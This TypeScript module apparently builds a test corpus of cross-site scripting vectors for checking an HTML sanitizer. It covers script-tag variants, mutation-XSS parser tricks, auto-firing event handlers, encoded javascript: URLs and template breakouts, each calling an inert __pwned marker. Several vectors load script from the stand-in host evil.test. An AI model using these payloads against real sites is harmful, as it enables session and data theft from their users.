/** What each vector does where it is let run: it leaves its number. */
const run = (n: number) => `__pwned(${n})`

const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => Array.from(text, (c) => `&#${c.codePointAt(0)};`).join(''),
  (text) => Array.from(text, (c) => `&#x${c.codePointAt(0)!.toString(16)}`).join(''),
  (text) => text.replace(':', '&colon;').replaceAll('(', '&lpar;'),
  (text) => text.replace(/^(.{4})/, '$1&#9;').replace(':', '&NewLine;:'),
  (text) => `\u0001 ${text}`,
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'vbscript:',
  'data:text/html,<script>',
  'javascript://%0a',
]
const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href=${url.replaceAll(/\s/g, '&#9;')}>x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button form=f formaction="${url}">x</button>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<map><area href="${url}" coords=0,0,9,9></map>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<isindex action="${url}">`,
  (url) => `[x](${url})`,
]

/** Elements that load, fail, start or take the focus by themselves, with the event that tells of it. */
const events: [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['img/src="x"', 'onerror'],
  ['image src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['x contenteditable autofocus', 'onfocus'],
  ['div style="animation:spin 1s"', 'onanimationstart'],
  ['div style="transition:all 1s"', 'ontransitionrun'],
  ['a href=#', 'onclick'],
  ['p', 'onmouseover'],
  ['body', 'onhashchange'],
  ['dialog open', 'onclose'],
  ['isindex type=image src=1', 'onerror'],
]
const shapes: ((tag: string, event: string, code: string) => string)[] = [
  (tag, event, code) => `<${tag} ${event}=${code}>`,
  (tag, event, code) => `<${tag} ${event}="${code}"//`,
  (tag, event, code) => `<${tag}/${event.toUpperCase()}='${code}'>`,
  (tag, event, code) => `"><${tag} ${event}=${code} x="`,
  (tag, event, code) =>
    `<${tag}\n${event}\n=\n${Array.from(code, (c) => `&#${c.codePointAt(0)}`).join(';')};>`,
]

/** Where a parser that reads a second time reads something else. */
const mutations: ((code: string) => string)[] = [
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
  (code) => `<svg><foreignObject><p><style><img src=x onerror=${code}></style></p></foreignObject></svg>`,
  (code) => `<svg><desc><table><tr><td><style><img src=x onerror=${code}>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
  (code) => `<textarea></textarea><img src=x onerror=${code}>`,
  (code) => `<title></title><img src=x onerror=${code}>`,
  (code) => `<style></style><img src=x onerror=${code}>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!--${'-'}!><img src=x onerror=${code}>-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<?xml><img src=x onerror=${code}>?>`,
  (code) => `<select><template><img src=x onerror=${code}></template></select>`,
  (code) => `<select><option><style></option></select><b><img src=x onerror=${code}></style>`,
  (code) => `<table><td><svg><title><b title="</title><img src=x onerror=${code}>">`,
  (code) => `<a href="x" title="&quot;><img src=x onerror=${code}>">`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  (code) => `\\u003cimg src=x onerror=${code}\\u003e`,
  (code) => `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
  (code) => `＜img src=x onerror=${code}＞`,
  (code) => `<img src=x onerror\u2028=${code}>`,
  (code) => `<im\u0000g src=x onerror=${code}>`.replace('\u0000', ''),
  (code) => `<plaintext><img src=x onerror=${code}>`,
  (code) => `<frameset onload=${code}>`,
]

const scripts: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT >`,
  (code) => `<script\t>${code}</script\n>`,
  (code) => `<<script>${code}//<</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</title></style></textarea></noscript><script>${code}</script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script xlink:href="data:,${code}"></script></svg>`,
  (code) => `<script src=//evil.test/${code}></script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<base href="//evil.test/"><script src=a>${code}</script>`,
  (code) => `<link rel=import href="//evil.test/${code}">`,
  (code) => `<link rel=stylesheet href="//evil.test/${code}">`,
  (code) => `<style>@import "//evil.test/${code}";</style>`,
  (code) => `<div style="background:url(//evil.test/${code})">x</div>`,
  (code) => `<img src="//evil.test/${code}">`,
  (code) => `<video poster="//evil.test/${code}"></video>`,
  (code) => `<input type=image src="//evil.test/${code}">`,
  (code) => `<body background="//evil.test/${code}">`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<object data="//evil.test/${code}"></object>`,
  (code) => `<embed src="//evil.test/${code}">`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `';${code};//`,
  (code) => `";${code};//`,
  (code) => `</script>"';${code};<!--`,
  (code) =>
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
]

function all(): string[] {
  let n = 0
  const next = () => {
    n += 1
    return run(n)
  }
  return [
    ...scripts.map((make) => make(next())),
    ...mutations.map((make) => make(next())),
    ...events.flatMap(([tag, event]) => shapes.map((make) => make(tag, event, next()))),
    ...carriers.flatMap((make, index) =>
      schemes.map((scheme, which) =>
        make(encodings[(index + which) % encodings.length]!(`${scheme}${next()}`)),
      ),
    ),
    ...encodings.map((encode) => `<a href="${encode(`javascript:${next()}`)}">x</a>`),
  ]
}

/** Each does something of its own where it is taken for markup. */
export const vectors = all()

/** As many of them in one text as may stand in it, one on each line or behind each other; those that are too long are left out. */
export function packed(most: number, joint = ' '): string[] {
  const texts: string[] = []
  let text = ''
  for (const vector of vectors.map((one) => one.trim()).filter((one) => one.length <= most)) {
    const longer = text === '' ? vector : `${text}${joint}${vector}`
    if (longer.length <= most) text = longer
    else {
      texts.push(text)
      text = vector
    }
  }
  return text === '' ? texts : [...texts, text]
}

/** All of them in order, as many together as have no more letters than this. */
export function parts(most: number): string[][] {
  const found: string[][] = [[]]
  let letters = 0
  for (const vector of vectors) {
    letters += vector.length
    if (letters > most) {
      found.push([])
      letters = vector.length
    }
    found.at(-1)!.push(vector)
  }
  return found
}
